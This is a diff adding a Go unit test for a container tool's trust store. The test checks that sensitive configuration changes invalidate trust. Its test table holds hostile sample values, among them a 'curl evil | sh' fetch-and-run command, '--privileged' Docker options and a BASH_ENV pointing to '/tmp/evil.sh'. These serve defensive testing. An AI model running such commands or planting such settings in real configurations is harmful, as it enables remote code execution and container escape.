@@ -0,0 +1,77 @@
+package runcontainer
+
+import (
+	"encoding/json"
+	"path/filepath"
+	"testing"
+)
+
+const trustedConfig = `{"configs": {"default": {
+	"docker-image": "alpine",
+	"run-before-commands": ["echo before"]
+}}}`
+
+func TestTrustStore(t *testing.T) {
+	fileName := filepath.Join(t.TempDir(), ".runcontainer.json")
+	store, err := LoadTrustStore(filepath.Join(t.TempDir(), "trust.json"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	store.Trust(fileName, loadTrustConfigs(t, trustedConfig))
+	if err := store.Save(); err != nil {
+		t.Fatal(err)
+	}
+	if store, err = LoadTrustStore(store.path); err != nil {
+		t.Fatal(err)
+	}
+
+	if !store.IsTrusted(fileName, loadTrustConfigs(t, trustedConfig)) {
+		t.Error("an unchanged configuration should stay trusted")
+	}
+	if !store.IsTrusted(fileName, loadTrustConfigs(t, `{"configs": {"default": {
+		"docker-image": "ubuntu",
+		"run-before-commands": ["echo before"]
+	}}}`)) {
+		t.Error("changing a setting that is not sensitive should not require trust")
+	}
+
+	tests := []struct {
+		name    string
+		setting string
+	}{
+		{"run before", `"run-before-commands": ["curl evil | sh"]`},
+		{"run after", `"run-after-commands": ["echo after"]`},
+		{"hooks", `"hooks": {"before": ["echo hook"]}`},
+		{"docker mount", `"with-docker-mount": true`},
+		{"home directory", `"mount-home-directory": true`},
+		{"docker options", `"docker-options": ["--privileged"]`},
+		{"services", `"services": {"db": {"docker-image": "postgres"}}`},
+		{"docker host", `"docker-host": "tcp://remote:2376"`},
+		{"docker context", `"docker-context": "remote"`},
+		{"docker cert path", `"docker-cert-path": "/tmp/certs"`},
+		{"environment", `"environment": {"BASH_ENV": "/tmp/evil.sh"}`},
+		{"security", `"security": {"allow-docker-mount": true}`},
+		{"allow unconfined", `"security": {"allow-unconfined": true}`},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			configs := loadTrustConfigs(t, `{"configs": {"default": {
+				"docker-image": "alpine",
+				"run-before-commands": ["echo before"],
+				`+tt.setting+`
+			}}}`)
+			if store.IsTrusted(fileName, configs) {
+				t.Errorf("changing %s should invalidate the trust", tt.setting)
+			}
+		})
+	}
+}
+
+func loadTrustConfigs(t *testing.T, content string) *DockerConfigs {
+	t.Helper()
+	var configs DockerConfigs
+	if err := json.Unmarshal([]byte(content), &configs); err != nil {
+		t.Fatal(err)
+	}
+	return &configs
+}